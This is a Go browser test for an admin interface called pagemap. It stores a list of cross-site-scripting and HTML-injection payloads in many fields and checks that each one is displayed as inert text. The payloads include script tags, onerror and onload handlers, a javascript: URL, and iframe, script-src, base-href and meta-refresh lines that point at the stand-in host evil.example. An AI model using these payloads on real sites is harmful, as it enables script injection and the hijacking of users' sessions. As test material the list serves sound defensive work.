// Hostile content in every field, in a real browser: shown as text, and nothing of it runs or is asked for.

package apache_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"pagemap/deploy/apache/browsertest"
	"pagemap/mapping"
	"pagemap/mapping/postgres"
	"pagemap/mapping/traffic"
)

// hostile would run as script, ask for something, or change the page if it were not text. A page where that happened has
// another title, or the browser reports that the policy was violated.
var hostile = []string{
	`<script>document.title='ran'</script>`, `"><img src=//evil.example/x onerror=document.title='ran'>`, `' autofocus onfocus='document.title=1`, `javascript:document.title='ran'`,
	`</textarea></title></style><svg onload=document.title='ran'>`, `</script><script src=//evil.example/x.js></script>`, `<style>*{display:none}</style>`,
	`<iframe src=//evil.example/></iframe>`, `<base href=//evil.example/>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content=0;url=//evil.example/>`,
	`<form action=//evil.example/><button>Find`, `{{.Body}}${document.title=1}`, "\u202eright to left\u2066", `a" style="position:fixed;inset:0`,
}

func TestAdminHostile(t *testing.T) {
	b := browsertest.Start(t)
	s := upOldSite(t, adminOptions{})
	var sets []set
	for i, h := range hostile {
		escaped := strings.ReplaceAll(url.PathEscape(h), "*", "%2A")
		sets = append(sets, set{h, mapping.OriginCLI, h, []page{
			{row: fmt.Sprintf("/hostile/%02d-%s 301 /about.html", i, escaped), tags: strings.ReplaceAll(h, ",", ""), note: h},
			{row: fmt.Sprintf("/hostile/wiki-%02d 301 https://www.example.net/?%s", i, url.QueryEscape(h)), note: h},
		}})
	}
	s.write(t, sets...)
	db := s.open(t)
	wiki := mapping.Page{Row: mapping.Row{Pattern: "/hostile/wiki", Status: 200, Source: "wiki:" + hostile[0], Origin: mapping.OriginCLI}}
	result, err := db.Write(t.Context(), postgres.ChangeSet{Author: hostile[0], Note: hostile[1], Origin: mapping.OriginCLI}, []postgres.Edit{{Pattern: wiki.Pattern, Page: &wiki}})
	if err != nil {
		t.Fatal(err)
	}
	var findings []postgres.Finding
	s.count(t, func(c *traffic.Tally) {
		for i, h := range hostile {
			c.Miss(mapping.Path("/missed/"+h), "https://"+h+"/", time.Now())
			findings = append(findings, postgres.Finding{Kind: "dead", Path: fmt.Sprintf("/hostile/wiki-%02d", i), Detail: h, Command: h})
		}
	})
	if err := db.KeepFindings(t.Context(), []string{"dead"}, findings); err != nil {
		t.Fatal(err)
	}
	if err := db.Report(t.Context(), postgres.Report{Name: hostile[0], Requests: 1}); err != nil {
		t.Fatal(err)
	}

	for _, v := range []browsertest.View{{}, {NoScript: true}} {
		c := s.sit(t, b, "maria", v)
		// shows fails if the page has become another one, unless it shows a text, and if anything but the page itself was refused.
		shows := func(what string, text string) {
			t.Helper()
			page := browsertest.Get(c.Tab, chromedp.Evaluate[struct{ Title, Text string }](`({title: document.title, text: document.body.innerText + "\n" +
				[...document.querySelectorAll("main :is(input, textarea)")].map(e => e.value).join("\n")})`))
			if !strings.HasSuffix(page.Title, " – pagemap") || !strings.Contains(page.Text, text) {
				t.Errorf("%s: %q does not show %q: %.1000s", what, page.Title, text, page.Text)
			}
			for _, e := range c.Errors() {
				if !strings.Contains(e, "status of 4") || !strings.Contains(e, "("+s.URL+"/pagemap-admin/") {
					t.Errorf("%s: %s", what, e)
				}
			}
		}
		script := hostile[0]
		for _, path := range []string{
			"", "pages?under=/hostile/", "pages?under=/hostile/&order=changed", "page?path=/hostile/wiki", fmt.Sprint("changes/", result.ChangeSet), "changes", "findings",
			"ask?url=/hostile/wiki", "misses?under=/missed/",
		} {
			c.at(path)
			shows(path, script)
		}
		for _, h := range hostile {
			if v.NoScript {
				break // these pages are the same
			}
			q := url.QueryEscape(h)
			for _, path := range []string{
				"pages?q=" + q + "&tag=" + q, "bulk?by=" + q, "ask?url=/" + q, "page?path=/missed/" + strings.ReplaceAll(q, "%2A", "x"),
				"changes?author=" + q + "&path=" + q,
			} {
				c.Open(s.URL + "/pagemap-admin/" + path)
				shows(path, "")
			}
		}
		// What is typed: saved with a refusal, planned, and imported.
		for _, h := range []string{hostile[0], hostile[1], hostile[3]} {
			c.at("page?path=/typed.html")
			c.fill("#e-source", h, "#e-tags", h, "#e-note", h, "#e-why", h)
			c.press("#save", 422)
			shows("a row", h)
			c.at("bulk?under=/docs/")
			c.Do(chromedp.Click(chromedp.CSS("#bulk input[value=tag]")))
			c.fill("#b-tag", h, "#b-why", h)
			c.press("#bulk button.main", 200)
			c.planned("planned")
			shows("a plan", h)
			c.at("import")
			c.fill("#i-text", "path,status,source,note\n"+h+",301,"+h+","+h+"\n", "#i-format", "csv", "#i-why", h)
			c.press("#import button.main", 200)
			c.planned("planned")
			shows("an import", h)
		}
	}
}
